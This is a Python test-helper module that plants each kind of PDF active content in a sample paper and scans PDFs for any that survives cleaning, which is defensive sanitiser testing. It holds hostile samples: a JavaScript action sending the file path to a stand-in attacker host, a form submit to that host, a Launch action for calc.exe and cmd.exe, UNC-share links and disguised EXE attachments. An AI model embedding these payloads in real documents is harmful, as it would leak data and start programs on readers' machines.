"""Tagged PDFs carrying one kind of active content each, as an attacker would upload them, and
a walk over every object of a PDF that finds any active content left."""

import io
from functools import lru_cache

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from pcc_portal.publications.pdf import render_pdf

SCRIPT = "app.launchURL('https://attacker.invalid/'+this.path);"
UNC_PATH = "\\\\server\\share\\x.pdf"
EXE = b"MZ\x90\x00\x03\x00\x00\x00 this program cannot be run in DOS mode"
KEPT_LINKS = ("https://www.lancashire-pcc.gov.uk/", "mailto:secretary@panel.example.org")


def untagged_pdf(marker):
    """An untagged one-page PDF whose bytes carry ``marker`` (in its document information)."""
    document = pikepdf.new()
    document.add_blank_page()
    document.docinfo["/Title"] = marker
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


@lru_cache
def tagged_pdf(marker):
    """A tagged two-page paper saying ``marker``, with a web link, a mail link and a link to a
    heading on its second page (what a cleaned paper keeps)."""
    html = (
        '<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Appendix</title>'
        "</head><body>"
        f"<h1>{marker} appendix</h1><p>{marker} first page. "
        f'<a href="{KEPT_LINKS[0]}">The Commissioner</a>, '
        f'<a href="{KEPT_LINKS[1]}">the secretary</a>, <a href="#second">the second page</a>.</p>'
        f'<h2 id="second" style="break-before: page">{marker} second page</h2>'
        f"<p>{marker} ends here.</p></body></html>"
    )
    return render_pdf(html).content


def _script(document):
    return document.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=SCRIPT))


def _link(document, page, action, rect=(72, 72, 200, 90)):
    annotation = document.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect), Border=[0, 0, 0], A=action)
    )
    page.obj.Annots = Array([*page.obj.get("/Annots", []), annotation])
    return annotation


def _field(document, action_key, action):
    """A push button whose widget sits on the first page."""
    page = document.pages[0]
    widget = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 100, 200, 120]),
            P=page.obj,
        )
    )
    widget[action_key] = action
    page.obj.Annots = Array([*page.obj.get("/Annots", []), widget])
    document.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return widget


def _open_action(document):
    document.Root.OpenAction = _script(document)


def _document_actions(document):
    document.Root.AA = Dictionary(WC=_script(document), DP=_script(document))


def _page_actions(document):
    document.pages[0].obj.AA = Dictionary(O=_script(document), C=_script(document))


def _annotation_actions(document):
    link = _link(document, document.pages[0], Dictionary(S=Name.URI, URI=String(KEPT_LINKS[0])))
    link.AA = Dictionary(E=_script(document), D=_script(document))


def _names_javascript(document):
    tree = pikepdf.NameTree.new(document)
    tree["startup"] = _script(document)
    document.Root.Names = Dictionary(JavaScript=tree.obj)


def _launch(document):
    action = Dictionary(
        S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"), Win=Dictionary(F="cmd.exe")
    )
    _link(document, document.pages[0], action)


def _unc_link(document):
    action = Dictionary(S=Name.GoToR, F=String(UNC_PATH), D=Array([0, Name.Fit]), NewWindow=True)
    _link(document, document.pages[1], action)


def _submit_form(document):
    url = Dictionary(FS=Name.URL, F=String("https://attacker.invalid/collect"))
    _field(document, "/A", Dictionary(S=Name.SubmitForm, F=url, Flags=4))


def _import_data(document):
    _field(document, "/A", Dictionary(S=Name.ImportData, F=String("\\\\server\\share\\x.fdf")))


def _field_script(document):
    _field(document, "/AA", Dictionary(K=_script(document), F=_script(document)))


def _javascript_link(document):
    _link(document, document.pages[0], Dictionary(S=Name.URI, URI=String("javascript:alert(1)")))


def _file_link(document):
    _link(document, document.pages[0], Dictionary(S=Name.URI, URI=String("file:///C:/x.exe")))


def _chained_script(document):
    first = Dictionary(S=Name.URI, URI=String(KEPT_LINKS[0]), Next=_script(document))
    _link(document, document.pages[0], first)


def _embedded_file(document):
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
        document, EXE, filename="invoice.exe", mime_type="application/x-msdownload"
    )


def _attachment_annotation(document):
    spec = pikepdf.AttachedFileSpec(document, EXE, filename="tender.exe")
    page = document.pages[1]
    annotation = document.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.FileAttachment,
            Rect=Array([72, 72, 90, 90]),
            FS=spec.obj,
            Contents=String("Open me"),
            Name=Name.PushPin,
        )
    )
    page.obj.Annots = Array([*page.obj.get("/Annots", []), annotation])


def _outline_script(document):
    with document.open_outline() as outline:
        item = pikepdf.OutlineItem("Start here", 0)
        outline.root.append(item)
    document.Root.Outlines.First.A = _script(document)


def _xfa_form(document):
    _field(document, "/AA", Dictionary())
    document.Root.AcroForm.XFA = document.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>'
    )


# Each kind of active content, what the secretary is told was removed, and how it is planted.
KINDS = {
    "open-action-javascript": ("JavaScript", _open_action),
    "document-additional-actions": ("JavaScript", _document_actions),
    "page-additional-actions": ("JavaScript", _page_actions),
    "annotation-additional-actions": ("JavaScript", _annotation_actions),
    "names-javascript": ("JavaScript", _names_javascript),
    "launch": ("an action that starts a program or opens a file", _launch),
    "gotor-unc-share": ("a link that opens another file", _unc_link),
    "submit-form": ("a form action that sends data", _submit_form),
    "import-data": ("a form action that imports data", _import_data),
    "field-javascript": ("JavaScript", _field_script),
    "javascript-uri": ("a javascript: link", _javascript_link),
    "file-uri": ("a link to a file", _file_link),
    "chained-javascript": ("JavaScript", _chained_script),
    "embedded-file": ("an embedded file (invoice.exe)", _embedded_file),
    "file-attachment-annotation": ("an embedded file (tender.exe)", _attachment_annotation),
    "outline-javascript": ("JavaScript", _outline_script),
    "xfa-form": ("an XFA form, which can carry scripts", _xfa_form),
}


def hostile_pdf(kind, marker="HOSTILE"):
    """The tagged paper with one kind of active content planted in it."""
    with pikepdf.open(io.BytesIO(tagged_pdf(marker))) as document:
        KINDS[kind][1](document)
        output = io.BytesIO()
        document.save(output)
    return output.getvalue()


def every_hostile_thing(marker="HOSTILE"):
    """One paper with every kind at once."""
    with pikepdf.open(io.BytesIO(tagged_pdf(marker))) as document:
        for kind in KINDS:
            if kind not in ("import-data", "field-javascript", "xfa-form"):  # one form each
                KINDS[kind][1](document)
        output = io.BytesIO()
        document.save(output)
    return output.getvalue()


# --- Finding what is left ----------------------------------------------------------------------

SAFE_ACTIONS = {"/GoTo", "/URI", "/Named"}


def _children(obj):
    if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
        return list(obj.items())
    if isinstance(obj, pikepdf.Array):
        return [(f"[{i}]", value) for i, value in enumerate(obj)]
    return []


def active_content(data):
    """Everything active left anywhere in the PDF ``data`` (every object reachable from its
    trailer), as readable findings; empty when the PDF is clean."""
    findings = []
    with pikepdf.open(io.BytesIO(data)) as document:
        seen = set()
        stack = [("trailer", document.trailer)]
        while stack:
            path, obj = stack.pop()
            if not isinstance(obj, pikepdf.Object):
                continue  # a number or a boolean
            if obj.is_indirect:
                if obj.objgen in seen:
                    continue
                seen.add(obj.objgen)
            if isinstance(obj, pikepdf.Stream) and obj.get("/Type") == Name.EmbeddedFile:
                findings.append(f"{path}: an embedded file stream")
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                findings.extend(_findings(path, obj))
            stack.extend((f"{path}/{key}", child) for key, child in _children(obj))
    return findings


def _findings(path, obj):
    found = []
    for key in ("/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/AA", "/AF"):
        if key in obj:
            found.append(f"{path}: {key}")
    if obj.get("/Subtype") in (Name.FileAttachment, Name.Screen, Name.RichMedia):
        found.append(f"{path}: a {obj.Subtype} annotation")
    kind = obj.get("/S")
    is_action = (
        "/P" not in obj and isinstance(kind, Name) and obj.get("/Type", Name.Action) == Name.Action
    )
    if is_action and str(kind) in {
        "/JavaScript",
        "/Launch",
        "/GoToR",
        "/GoToE",
        "/SubmitForm",
        "/ImportData",
    }:
        found.append(f"{path}: a {kind} action")
    if is_action and kind == Name.URI:
        uri = str(obj.get("/URI", ""))
        if not uri.startswith(("https://", "http://", "mailto:")):
            found.append(f"{path}: the link {uri}")
    return found


def links(data):
    """The link targets left on the pages: URIs, and internal destinations as 'internal'."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as document:
        for page in document.pages:
            for annotation in page.obj.get("/Annots", []):
                if annotation.get("/Subtype") != Name.Link:
                    continue
                action = annotation.get("/A")
                if "/Dest" in annotation or (action is not None and action.get("/S") == Name.GoTo):
                    found.append("internal")
                elif action is not None and action.get("/S") == Name.URI:
                    found.append(str(action.URI))
    return found


def structure_elements(data):
    """How many structure elements the PDF's tag tree has (0 if it is not tagged)."""
    with pikepdf.open(io.BytesIO(data)) as document:
        root = document.Root.get("/StructTreeRoot")
        if root is None:
            return 0
        count, stack, seen = 0, [root], set()
        while stack:
            element = stack.pop()
            kids = element.get("/K")
            if kids is None:
                continue
            for kid in kids if isinstance(kids, pikepdf.Array) else [kids]:
                if isinstance(kid, pikepdf.Dictionary) and "/S" in kid:
                    if kid.is_indirect and kid.objgen in seen:
                        continue
                    if kid.is_indirect:
                        seen.add(kid.objgen)
                    count += 1
                    stack.append(kid)
        return count
